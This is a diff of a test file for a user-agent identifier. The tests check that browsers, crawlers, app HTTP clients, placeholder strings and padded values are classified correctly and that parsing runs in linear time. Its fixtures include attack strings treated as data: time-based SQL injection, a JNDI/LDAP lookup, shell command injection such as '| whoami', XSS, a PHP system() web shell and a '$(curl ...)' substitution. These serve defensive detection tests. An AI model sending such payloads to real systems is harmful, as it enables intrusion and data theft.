@@ -30,6 +30,11 @@ describe('an unknown client', () => {
     '#{7*7}',
     '; ls -la',
     `"${windows}"`,
+    'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101',
+    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101',
+    'Mozilla/5.0 (Android 15; Mobile; rv:143.0) Gecko/143.0',
+    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15',
+    `${windows} ${webkit} Safari/537.36`,
     `User-Agent: ${windows} ${webkit} Chrome/120.0.0.0 Safari/537.36`,
   ])('begins as a browser does, and has none: %s', (userAgent) =>
     expect(identify(userAgent)).toMatchObject({
@@ -55,8 +60,50 @@ describe('an unknown client', () => {
     '<?php system($_GET[0]); ?>',
     '{{7*7}}',
     '\u0024(curl http://a.example)',
+    'sleep(5)#',
+    'pg_sleep(5)',
+    'benchmark(10000000,MD5(1))',
+    'if(now()=sysdate(),sleep(15),0)',
+    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
+    '(select(0)from(select(sleep(15)))v)',
+    `${windows} ${webkit} Chrome/120.0.0.0 Safari/537.36 javascript:alert(1)`,
+    'SELECT * FROM users',
+    'user[\u0024ne]=1',
+    'jndi:ldap://a.example/x',
+    '| whoami',
+    '<svg/onload=alert(1)>',
   ])('sends the text of an attack: %s', (userAgent) =>
     expect(identify(userAgent)?.name).toBe(UNKNOWN_CLIENT),
+  );
+
+  test.each([
+    'null',
+    'undefined',
+    '(null)',
+    'NaN',
+    'None',
+    'N/A',
+    'unknown',
+    'test',
+    '0',
+    '1.0',
+    '[object Object]',
+    '[object Undefined]',
+    'undefined/undefined',
+    'User-Agent',
+    '%{User-Agent}i',
+    '%{HTTP_USER_AGENT}',
+    '\u0024http_user_agent',
+    '{{user_agent}}',
+    '<user_agent>',
+    "headers['User-Agent']",
+    'your-user-agent',
+  ])('sends a text in the place of a user agent: %s', (userAgent) =>
+    expect(identify(userAgent)?.name).toBe(UNKNOWN_CLIENT),
+  );
+
+  test.each(['', '-', ' ', '\t', '""', '"-"', "''"])('is another thing than no user agent: %j', (userAgent) =>
+    expect(identify(userAgent)?.name).toBe('No user agent'),
   );
 
   test.each([
@@ -67,9 +114,48 @@ describe('an unknown client', () => {
     'Mozilla/5.0 (PLAYSTATION 3; 3.55)',
     'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko',
     'Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.7.8) Gecko/20050511',
-    'MyShop/5 CFNetwork/1568.200.51 Darwin/24.1.0',
+    'MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)',
+    // Safari 2 named no version.
+    'Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en) AppleWebKit/418.8 (KHTML, like Gecko) Safari/419.3',
+    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari/604.1',
     'Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
   ])('is none that has a browser or a device: %s', (userAgent) => expect(identify(userAgent)).toBeNull());
+});
+
+describe('what copies put around a user agent', () => {
+  const chrome = `${windows} ${webkit} Chrome/141.0.0.0 Safari/537.36`;
+
+  test.each([
+    ` ${chrome}`,
+    `\t${chrome}`,
+    `${chrome}  `,
+    `"${chrome}"`,
+    `'${chrome}'`,
+    `"${chrome}`,
+    `' ${chrome} '`,
+  ])('makes a person no bot: %j', (userAgent) => expect(identify(userAgent)).toBeNull());
+
+  test.each([' GPTBot/1.2', '"GPTBot/1.2"', "'Mozilla/5.0 (compatible; GPTBot/1.2)"])(
+    'makes a crawler no other: %j',
+    (userAgent) => expect(identify(userAgent)?.name).toBe('GPTBot'),
+  );
+});
+
+/** The HTTP clients of apps: no browser asked, as device-detector's libraries, omrilotan/isbot#238 and matomo-org/device-detector#5377 say. */
+describe('an app without a browser', () => {
+  test.each([
+    ['MyShop/5 CFNetwork/1568.200.51 Darwin/24.1.0', 'CFNetwork'],
+    ['NetworkingExtension/8618.1.15.10.15 CFNetwork/1490.0.4 Darwin/23.0.0', 'CFNetwork'],
+    ['NetworkingExtension/8621.3.11.10.3 Network/4277.145.3 iOS/18.6', 'CFNetwork'],
+    ['com.apple.WebKit.Networking/8618.1.15.10.15 CFNetwork/1490 Darwin/23.0', 'CFNetwork'],
+    ['MobileSafari/604.1 CFNetwork/1121.2.2 Darwin/19.3.0', 'CFNetwork'],
+    ['SpringBoard/50 CFNetwork/1209 Darwin/20.2.0', 'CFNetwork'],
+    ['MyShop/1.0 (com.acme.shop; build:1; iOS 17.0.0) Alamofire/5.4.3', 'Alamofire'],
+    ['MyShop/5.2 okhttp/4.9', 'okhttp'],
+    ['Dart/3.1 (dart:io)', 'Dart'],
+  ])('%s is the tool that it asks with', (userAgent, name) =>
+    expect(identify(userAgent)).toMatchObject({ name, category: 'tool' }),
+  );
 });
 
 test('forms are read of any text, at once', () => {
@@ -100,12 +186,20 @@ test('forms are read of any text, at once', () => {
   );
 });
 
-test.each(['@a-', '(a.', 'Android 1; ', 'a.aa/', '<!', ') Macintosh;', '(Macintosh;'])(
-  'a long row of %j is read in linear time',
-  (piece) => {
-    const text = `Mozilla/5.0 AppleWebKit/605 ${piece.repeat(20_000)}`;
-    const began = performance.now();
-    identify(text);
-    expect(performance.now() - began).toBeLessThan(1_000);
-  },
-);
+test.each([
+  '@a-',
+  '(a.',
+  'Android 1; ',
+  'a.aa/',
+  '<!',
+  ') Macintosh;',
+  '(Macintosh;',
+  'Gecko/1.1',
+  ' 1',
+  'a(',
+])('a long row of %j is read in linear time', (piece) => {
+  const text = `Mozilla/5.0 AppleWebKit/605 ${piece.repeat(20_000)}`;
+  const began = performance.now();
+  identify(text);
+  expect(performance.now() - began).toBeLessThan(1_000);
+});
